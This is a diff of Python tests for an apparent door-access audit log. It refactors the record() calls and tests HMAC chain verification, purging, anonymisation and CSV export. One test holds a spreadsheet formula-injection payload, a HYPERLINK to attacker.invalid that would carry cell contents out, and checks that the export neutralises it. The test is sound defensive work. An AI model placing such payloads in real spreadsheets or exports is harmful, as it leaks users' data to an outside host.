@@ -14,6 +14,8 @@ from sqlalchemy import update
 from gatekeeper.services.audit import AuditFilter, AuditLog, summary, to_csv, to_json
 from gatekeeper.storage.database import open_database
 from gatekeeper.storage.models import AuditEvent
+from gatekeeper.core.types import Verdict
+from gatekeeper.services.audit import Reading
 
 T0 = datetime(2026, 11, 1, 8, 0, tzinfo=timezone.utc)
 KEY = bytes(range(32))  # the audit chain's HMAC key in these tests
@@ -27,7 +29,7 @@ def audit(db_url: str) -> AuditLog:
         ("front", "denied-ambiguous", "alice", 26), ("back", "error", None, 49), ("front", "granted", "alice", 50),
     ]
     for door, decision, person, hours in rows:
-        log.record(door_id=door, decision=decision, person_id=person, best=0.81234567 if person else 0.2, second=0.3, threshold=0.6, margin=0.05, model_version="m1", quality={"inter_eye_px": 51.0}, at=T0 + timedelta(hours=hours))
+        log.record(door, Verdict(decision, person, 0.81234567 if person else 0.2, 0.3), Reading(threshold=0.6, margin=0.05, model_version="m1", quality={"inter_eye_px": 51.0}), at=T0 + timedelta(hours=hours))
     return log
 
 
@@ -107,7 +109,7 @@ def test_purge_keeps_the_rest_verifiable(audit: AuditLog) -> None:
     rows = audit.query(AuditFilter())
     assert [r.event_id for r in rows] == [5, 6, 7] and rows[-1].decision == "purged" and rows[-1].covers == {"through_event": 4, "rows": 4}
     assert audit.verify() == []
-    audit.record(door_id="front", decision="granted", person_id="bob")
+    audit.record("front", Verdict("granted", "bob", None, None))
     assert audit.verify() == []
 
 
@@ -158,7 +160,7 @@ def test_rows_from_before_revision_0002_verify_and_stay_named(tmp_path: Path) ->
     engine.dispose()
     log = AuditLog(open_database(url), KEY)  # migrates to head
     assert [p.split(":")[0] for p in log.verify()] == ["unprotected rows"]  # verifies, but says it is unkeyed
-    log.record(door_id="front", decision="granted", person_id="alice")
+    log.record("front", Verdict("granted", "alice", None, None))
     result = log.anonymise("alice", "request 8")
     assert (result.rows, result.legacy_rows) == (1, 1)
     assert [r.person_id for r in log.query(AuditFilter())] == ["alice", None, None]
@@ -169,7 +171,7 @@ def test_rows_from_before_revision_0002_verify_and_stay_named(tmp_path: Path) ->
 def test_csv_export_neutralises_formulas(audit: AuditLog) -> None:
     """Issue #11: an id or door name written like a formula must reach a spreadsheet as text."""
     hostile = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
-    audit.record(door_id="@SUM(1+1)", decision="granted", person_id=hostile, best=0.99, second=0.5, threshold=0.9, margin=0.01, model_version="+m", quality={"inter_eye_px": 50.0})
+    audit.record("@SUM(1+1)", Verdict("granted", hostile, 0.99, 0.5), Reading(threshold=0.9, margin=0.01, model_version="+m", quality={"inter_eye_px": 50.0}))
     rows = list(csv.DictReader(io.StringIO(to_csv(audit.query(AuditFilter(door_id="@SUM(1+1)"))))))
     assert rows[0]["person_id"] == "'" + hostile
     assert rows[0]["door_id"] == "'@SUM(1+1)" and rows[0]["model_version"] == "'+m"
